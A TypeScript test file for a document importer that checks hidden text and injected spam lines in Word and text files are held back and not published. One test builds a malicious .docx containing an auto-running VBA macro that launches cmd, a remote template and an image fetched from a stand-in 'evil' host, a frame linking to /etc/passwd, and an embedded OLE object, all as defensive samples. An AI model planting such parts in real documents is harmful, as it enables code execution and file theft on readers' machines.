import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { loadCapture } from '../../../../src/import/load.ts';
import type { Reading } from '../../../../src/plan/model.ts';
import { buildPaper, FORMS, type InjectedPlace } from './papers.ts';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
const DOCUMENT = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (...each: string[]): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${each.join('')}</Relationships>`;
const rel = (id: string, kind: string, target: string, more = ''): string =>
  `<Relationship Id="${id}" Type="${DOCUMENT}/${kind}" Target="${target}" ${more}/>`;
const paragraph = (text: string, properties = ''): string =>
  `<w:p><w:r>${properties && `<w:rPr>${properties}</w:rPr>`}<w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;

/** A Word file of these paragraphs, with whatever other parts. */
function wordFile(paragraphs: readonly string[], parts: Record<string, string> = {}): Uint8Array {
  const files = {
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>',
    '_rels/.rels': rels(rel('r1', 'officeDocument', 'word/document.xml')),
    'word/document.xml': `<w:document ${W} ${R}><w:body>${paragraphs.join('')}</w:body></w:document>`,
    ...parts,
  };
  return zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)])));
}

const PAPER = buildPaper('txt', 'zh-Hans')
  .split('\n')
  .filter((line) => !line.includes('\t'));
const inWord = (inner: string): string[] => [
  ...PAPER.slice(0, 5).map((line) => paragraph(line)),
  inner,
  ...PAPER.slice(5).map((line) => paragraph(line)),
];
const told = ({ account }: Reading, isSuspect: boolean): string[] =>
  account.filter(({ verdict }) => (verdict === 'suspect') === isSuspect).map(({ text }) => text);

describe('Word', () => {
  test.each([
    ['hidden', '<w:vanish/>'],
    ['white', '<w:color w:val="FFFFFF"/>'],
    ['one point', '<w:sz w:val="2"/>'],
  ])('a run that nobody sees is held: %s', async (_, properties) => {
    const reading = await loadCapture(wordFile(inWord(paragraph('装修公司', properties))), 'paper.docx');
    expect(told(reading, true)).toEqual(['装修公司']);
  });

  test('macros, a template and pictures elsewhere, and embedded objects are not opened, and nothing of them is published', async () => {
    const bytes = wordFile(
      inWord(
        `${paragraph('加强监测预警。')}<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="r4"/></w:object></w:r></w:p>`,
      ),
      {
        'word/vbaProject.bin': 'Sub AutoOpen()\nShell "cmd"\nEnd Sub',
        'word/settings.xml': `<w:settings ${W} ${R}><w:attachedTemplate r:id="r1"/></w:settings>`,
        'word/_rels/settings.xml.rels': rels(
          rel('r1', 'attachedTemplate', 'http://127.0.0.1:9/evil.dotm', 'TargetMode="External"'),
        ),
        'word/_rels/document.xml.rels': rels(
          rel('r2', 'image', 'http://127.0.0.1:9/evil.png', 'TargetMode="External"'),
          rel('r3', 'frame', 'file:///etc/passwd', 'TargetMode="External"'),
          rel('r4', 'oleObject', 'embeddings/evil.bin'),
        ),
        'word/embeddings/evil.bin': 'evil',
      },
    );
    const reading = await loadCapture(bytes, 'paper.docm');
    expect(told(reading, false)).toContain('加强监测预警。');
    expect(JSON.stringify(reading)).not.toMatch(/evil|AutoOpen|passwd/u);
  });
});

const LINES = ['时时彩计划群', '澳洲幸运10开奖官网', '加薇信abc6688'];
const HERE: readonly InjectedPlace[] = ['begin', 'title', 'middle', 'sentence', 'cell', 'end'];

describe.each([...FORMS, 'docx'] as const)('%s', (form) => {
  test.each(HERE)('nothing injected is published, in either script: %s', async (place) => {
    for (const edition of ['zh-Hans', 'zh-Hant'] as const)
      for (const line of LINES) {
        const text = buildPaper(form === 'docx' ? 'txt' : form, edition, place, line);
        const bytes =
          form === 'docx'
            ? wordFile(text.split('\n').map((each) => paragraph(each)))
            : new TextEncoder().encode(text);
        const reading = await loadCapture(bytes, `paper.${form}`);
        expect([line, told(reading, false).filter((each) => each.includes(line))]).toEqual([line, []]);
      }
  });
});
